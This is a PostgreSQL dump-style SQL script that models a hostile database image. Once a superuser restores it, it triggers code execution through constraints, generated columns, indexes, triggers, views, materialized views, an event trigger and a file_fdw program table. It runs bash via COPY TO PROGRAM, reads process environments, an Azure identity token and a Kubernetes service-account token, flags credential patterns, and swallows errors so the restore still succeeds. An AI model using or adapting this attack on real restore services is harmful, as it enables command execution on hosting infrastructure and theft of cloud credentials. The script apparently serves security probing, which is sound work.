-- A database whose owner is hostile: wherever a restore runs SQL of the image, this runs the probe (probe.sh), as superuser. A try's own errors are
-- swallowed, so that the restore succeeds and the tries can be read from the restored instance.
SET probe.waits = 'yes';
CREATE SCHEMA probe;

CREATE FUNCTION probe.at(via text) RETURNS integer LANGUAGE plpgsql AS $function$
DECLARE
    path text;
    content text;
BEGIN
    -- Here, while all this is made.
    IF pg_catalog.current_setting('probe.waits', true) = 'yes' THEN
        RETURN 1;
    END IF;
    BEGIN
        EXECUTE pg_catalog.format(
            'COPY (SELECT pg_catalog.unnest(pg_catalog.string_to_array(%L, pg_catalog.chr(10)))) TO PROGRAM %L '
            'WITH (FORMAT csv, DELIMITER E''\001'', QUOTE E''\002'')',
            $probe$:PROBE$probe$,
            'bash -s ' || via);
        FOREACH path IN ARRAY ARRAY[
            '/proc/self/environ',
            '/proc/1/environ',
            '/var/run/secrets/azure/tokens/azure-identity-token',
            '/var/run/secrets/kubernetes.io/serviceaccount/token']
        LOOP
            BEGIN
                content := pg_catalog.encode(pg_catalog.pg_read_binary_file(path), 'escape');
            EXCEPTION WHEN OTHERS THEN
                content := '';
            END;
            EXECUTE pg_catalog.format(
                'COPY (SELECT %L) TO PROGRAM ''cat >> probe.tries''',
                via || '|pg_read_file|' || path || '|'
                || CASE WHEN content ~ '(AZURE_|AZCOPY_|eyJ[A-Za-z0-9_-]{10,}[.]eyJ)' THEN 'SUCCEEDED|' ELSE 'failed|' END
                || pg_catalog.length(content) || ' bytes');
        END LOOP;
    EXCEPTION WHEN OTHERS THEN
        RAISE WARNING 'a try by % was stopped: %', via, SQLERRM;
    END;
    RETURN 1;
END
$function$;

CREATE FUNCTION probe.immutable(via text, value integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM probe.at(via);
    RETURN value;
END
$$;

-- The commands of each may run in a restore in an order of its own.
CREATE DOMAIN probe.checked AS integer CHECK (probe.immutable('domain', VALUE) IS NOT NULL);
CREATE TABLE probe.rows (
    n integer CHECK (probe.immutable('check', n) IS NOT NULL),
    d probe.checked,
    g integer GENERATED ALWAYS AS (probe.immutable('generated', n)) STORED);
INSERT INTO probe.rows SELECT n, n FROM generate_series(1, 3) AS n;
CREATE INDEX ON probe.rows (probe.immutable('index', n));

CREATE FUNCTION probe.on_row() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM probe.at('trigger');
    RETURN NULL;
END
$$;
CREATE TRIGGER on_any AFTER UPDATE ON probe.rows FOR EACH STATEMENT EXECUTE FUNCTION probe.on_row();

CREATE FUNCTION probe.viewed() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    -- Changes no row and fires the trigger.
    UPDATE probe.rows SET n = n WHERE false;
    RETURN probe.at('view');
END
$$;
CREATE VIEW probe.view AS SELECT probe.viewed() AS n;
CREATE MATERIALIZED VIEW probe.materialized AS SELECT n FROM probe.view;

-- An extension that runs programs by itself: no COPY stands in the way.
CREATE EXTENSION file_fdw;
CREATE SERVER program FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE probe.program (line text) SERVER program
    OPTIONS (program 'bash -c ''printf "extension|environment|file_fdw|%s|%s\n" "$(env | grep -q ^AZURE_ && echo SUCCEEDED || echo failed)" "$(env | wc -l) variables" >> probe.tries; echo done''');
CREATE MATERIALIZED VIEW probe.by_extension AS SELECT line FROM probe.program;

CREATE FUNCTION probe.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM probe.at('event-trigger');
END
$$;
CREATE EVENT TRIGGER on_ddl ON ddl_command_end EXECUTE FUNCTION probe.on_ddl();
